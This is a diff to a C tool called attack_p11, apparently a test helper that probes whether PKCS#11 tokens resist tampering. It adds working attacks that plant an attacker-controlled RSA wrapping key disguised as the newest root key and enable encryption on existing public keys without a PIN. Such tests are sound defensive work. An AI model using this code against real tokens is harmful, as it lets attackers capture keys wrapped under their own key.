@@ -30,7 +30,13 @@
  *   attack_p11 plant-secret MODULE TOKEN-LABEL LABEL ID-HEX
  *       a public AES-256 key of a value the attacker knows (all 0x41), with
  *       every usage, and CKA_ID ID-HEX
- * Exits 0 when the object was made, 2 when not. */
+ *   attack_p11 plant-rsa MODULE TOKEN-LABEL LABEL ID-HEX
+ *       a public RSA key (the attacker's modulus) that wraps and encrypts,
+ *       labelled as a root key, with CKA_ID ID-HEX (say, one that sorts
+ *       after every real version) and today's start date
+ *   attack_p11 loosen-public MODULE TOKEN-LABEL LABEL
+ *       CKA_ENCRYPT=TRUE on every public key labelled LABEL
+ * Exits 0 when the object was made (or changed), 2 when not. */
 #include <p11-kit/pkcs11.h>
 
 #include <dlfcn.h>
@@ -38,6 +44,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
 
 static CK_FUNCTION_LIST *f;
 static CK_SESSION_HANDLE s;
@@ -352,9 +359,59 @@ static int plant(int argc, char **argv)
     FILE *in;
     CK_RV rv;
 
+    if (strcmp(argv[1], "loosen-public") == 0) {
+        CK_OBJECT_CLASS pc = CKO_PUBLIC_KEY;
+        CK_OBJECT_HANDLE found[MAXOBJ];
+        CK_ATTRIBUTE enc = {CKA_ENCRYPT, &yes, sizeof(yes)};
+        CK_ULONG k, nf;
+        if (argc != 5 || !open_token(argv[2], argv[3], &slot))
+            return 2;
+        {
+            CK_ATTRIBUTE t[] = {{CKA_CLASS, &pc, sizeof(pc)}, {CKA_LABEL, argv[4], strlen(argv[4])}};
+            nf = find(t, 2, found);
+        }
+        rv = nf > 0 ? CKR_OK : CKR_GENERAL_ERROR;
+        for (k = 0; k < nf && rv == CKR_OK; k++)
+            rv = f->C_SetAttributeValue(s, found[k], &enc, 1);
+        f->C_CloseSession(s);
+        f->C_Finalize(NULL);
+        if (rv != CKR_OK)
+            return 2;
+        printf("set CKA_ENCRYPT on %lu public key(s) '%s' without a PIN\n", nf, argv[4]);
+        return 0;
+    }
     if (argc != 6 || !open_token(argv[2], argv[3], &slot))
         return 2;
-    if (strcmp(argv[1], "plant-data") == 0) {
+    if (strcmp(argv[1], "plant-rsa") == 0) {
+        CK_OBJECT_CLASS pc = CKO_PUBLIC_KEY;
+        CK_KEY_TYPE rsa = CKK_RSA;
+        static unsigned char modulus[256];
+        unsigned char exponent[] = {0x01, 0x00, 0x01};
+        CK_DATE today;
+        time_t now = time(NULL);
+        struct tm tm;
+        char d[9];
+
+        for (i = 0; i < sizeof(id) && sscanf(argv[5] + 2 * i, "%2x", &b) == 1; i++)
+            id[i] = (unsigned char)b;
+        memset(modulus, 0xc7, sizeof(modulus)); /* odd, full length: a modulus to the module */
+        gmtime_r(&now, &tm);
+        strftime(d, sizeof(d), "%Y%m%d", &tm);
+        memcpy(today.year, d, 4);
+        memcpy(today.month, d + 4, 2);
+        memcpy(today.day, d + 6, 2);
+        {
+            CK_ATTRIBUTE t[] = {
+                {CKA_CLASS, &pc, sizeof(pc)},          {CKA_KEY_TYPE, &rsa, sizeof(rsa)},
+                {CKA_TOKEN, &yes, sizeof(yes)},        {CKA_PRIVATE, &no, sizeof(no)},
+                {CKA_LABEL, argv[4], strlen(argv[4])}, {CKA_ID, id, i},
+                {CKA_MODULUS, modulus, sizeof(modulus)}, {CKA_PUBLIC_EXPONENT, exponent, 3},
+                {CKA_WRAP, &yes, sizeof(yes)},         {CKA_ENCRYPT, &yes, sizeof(yes)},
+                {CKA_START_DATE, &today, sizeof(today)},
+            };
+            rv = f->C_CreateObject(s, t, sizeof(t) / sizeof(t[0]), &h);
+        }
+    } else if (strcmp(argv[1], "plant-data") == 0) {
         in = fopen(argv[5], "rb");
         if (in == NULL)
             return 2;
@@ -412,12 +469,14 @@ int main(int argc, char **argv)
     CK_ULONG blen, mlen;
     const char *pin = getenv("ATTACK_PIN");
 
-    if (argc > 1 && strncmp(argv[1], "plant-", 6) == 0)
+    if (argc > 1 && (strncmp(argv[1], "plant-", 6) == 0 || strcmp(argv[1], "loosen-public") == 0))
         return plant(argc, argv);
     if (argc != 5 || strcmp(argv[1], "extract") != 0 || pin == NULL) {
         fprintf(stderr, "usage: ATTACK_PIN=... attack_p11 extract MODULE TOKEN-LABEL KEY-LABEL\n"
                         "       attack_p11 plant-data MODULE TOKEN-LABEL LABEL FILE\n"
-                        "       attack_p11 plant-secret MODULE TOKEN-LABEL LABEL ID-HEX\n");
+                        "       attack_p11 plant-secret MODULE TOKEN-LABEL LABEL ID-HEX\n"
+                        "       attack_p11 plant-rsa MODULE TOKEN-LABEL LABEL ID-HEX\n"
+                        "       attack_p11 loosen-public MODULE TOKEN-LABEL LABEL\n");
         return 2;
     }
     argv++; /* MODULE TOKEN KEY from here on */
